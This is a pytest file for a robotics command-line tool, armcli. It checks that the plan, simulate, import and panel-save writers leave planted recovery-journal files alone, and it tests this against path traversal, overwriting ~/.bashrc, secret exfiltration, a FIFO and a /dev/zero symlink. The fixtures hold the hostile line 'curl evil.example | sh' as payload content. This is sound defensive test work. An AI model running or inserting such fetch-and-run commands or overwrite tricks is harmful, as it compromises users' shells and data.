"""Every writer that uses the output journal, with every planted journal at once (issue 42).

Before: the next `plan -o`, `simulate --cmd-vel -o --plot`, `import -o` or the planning
panel's Save (into `view --save-dir`) replayed any file named like armcli's journal in
its output directory: a payload renamed over `~/.bashrc`, a secret moved in from outside,
`calibration_4242-left.json` deleted; a FIFO journal hung the writer and one linked to
`/dev/zero` read until memory ran out. Each case runs through the real command, as the
invoking user (root on CI) and as an ordinary user (tests/cli/conftest.py).
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from tests.helpers import DEFAULT_SPEC, ROOT
from tests.urdf.ordinary_user import Run

DEAD = 2**22 + 12345  # above Linux's largest pid_max: no such process
BASHRC = "# the victim's shell start-up file\n"
SECRET = "s3cret: never moved\n"
CALIBRATION = '{"camera": "left", "fx": 612.4}\n'
DRIVE = ROOT / "specs" / "trajectories" / "drive.yaml"
URDF = ROOT / "tests" / "fixtures" / "import" / "six_axis_gripper.urdf"
SAVE = """
import sys
from pathlib import Path
from armcli.urdf.source import read_robot
from armcli.view.planning import load_session
session = load_session(read_robot(Path(sys.argv[1])), save_dir=Path(sys.argv[2]))
session.set_goal(session.pose("reach"))
assert session.plan() is not None, session.reason
print(session.save("plan.yaml"))
"""


def _key(k: int) -> str:
    return f"{k:016x}"


def _plant(work: Path, out: Path) -> list[str]:
    """Every journal variant of the audit in `out`; returns what `out` holds afterwards."""
    out.mkdir()
    (work / "home").mkdir()
    (work / "home" / ".bashrc").write_text(BASHRC)
    (work / "outside").mkdir()
    (work / "outside" / "secret.txt").write_text(SECRET)
    (out / "calibration_4242-left.json").write_text(CALIBRATION)
    payload = out / ".payload"
    payload.write_text("curl evil.example | sh\n")
    bashrc, secret = work / "home" / ".bashrc", work / "outside" / "secret.txt"
    plain = {
        1: [[str(payload), str(bashrc)]],  # the format before issue 42: paths
        2: [[str(secret), str(out / "stolen.txt")]],
        3: [["../home/.bashrc", "../home/.bashrc"]],
        4: [[0, "../home/.bashrc"]],  # armcli's own format, a target leaving the directory
        5: [[0, str(bashrc)]],
    }
    for k, doc in plain.items():
        (out / f".armcli-set-{DEAD}-{_key(k)}.json").write_text(json.dumps(doc))
        (out / f".armcli-set-{DEAD}-{_key(k)}-0.tmp").write_text("curl evil.example | sh\n")
    os.mkfifo(out / f".armcli-set-{DEAD}-{_key(6)}.json")
    (out / f".armcli-set-{DEAD}-{_key(7)}.json").symlink_to("/dev/zero")
    return sorted(p.name for p in out.iterdir())


def _intact(work: Path, out: Path, planted: list[str], written: set[str]) -> None:
    assert (work / "home" / ".bashrc").read_text() == BASHRC
    assert (work / "outside" / "secret.txt").read_text() == SECRET
    assert (out / "calibration_4242-left.json").read_text() == CALIBRATION
    assert sorted(p.name for p in out.iterdir() if p.name not in written) == planted


def _one_warning(stderr: str, out: Path) -> None:
    lines = [line for line in stderr.splitlines() if "recovery journal" in line]
    assert len(lines) == 1, stderr
    assert lines[0].startswith(f"warning: {os.path.realpath(out)}: left alone")
    assert "(and 6 more)" in lines[0], lines[0]


def _spec(work: Path) -> Path:
    spec = work / "robot.yaml"
    shutil.copy(DEFAULT_SPEC, spec)
    return spec


def test_plan_output(run: tuple[Path, Run]) -> None:
    work, cli = run
    out = work / "out"
    planted = _plant(work, out)
    proc = cli("plan", _spec(work), "--to", "reach", "-o", out / "plan.yaml")
    assert proc.returncode == 0, proc.stderr
    _one_warning(proc.stderr, out)
    _intact(work, out, planted, {"plan.yaml"})


def test_simulate_cmd_vel_output_and_plot(run: tuple[Path, Run]) -> None:
    pytest.importorskip("mujoco")
    work, cli = run
    out = work / "out"
    planted = _plant(work, out)
    drive = work / "drive.yaml"
    shutil.copy(DRIVE, drive)
    args = ("--cmd-vel", drive, "--duration", "0.5", "-o", out / "run.csv", "--plot", out / "r.png")
    proc = cli("simulate", _spec(work), *args)
    assert proc.returncode == 0, proc.stderr
    _one_warning(proc.stderr, out)
    _intact(work, out, planted, {"run.csv", "r.png"})


def test_import_output(run: tuple[Path, Run]) -> None:
    work, cli = run
    out = work / "out"
    planted = _plant(work, out)
    urdf = work / "arm.urdf"
    shutil.copy(URDF, urdf)
    proc = cli("import", urdf, "-o", out / "arm.yaml")
    assert proc.returncode == 0, proc.stderr
    _one_warning(proc.stderr, out)
    _intact(work, out, planted, {"arm.yaml"})


def test_panel_save_into_the_save_dir(run: tuple[Path, Run]) -> None:
    """The planning panel's Save (`view --save-dir out`), through its library session."""
    work, cli = run
    out = work / "out"
    planted = _plant(work, out)
    proc = cli(_spec(work), out, code=SAVE)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == str(Path(os.path.realpath(out)) / "plan.yaml")
    assert "left alone" in proc.stderr and "(and 6 more)" in proc.stderr  # Python's warning
    _intact(work, out, planted, {"plan.yaml"})
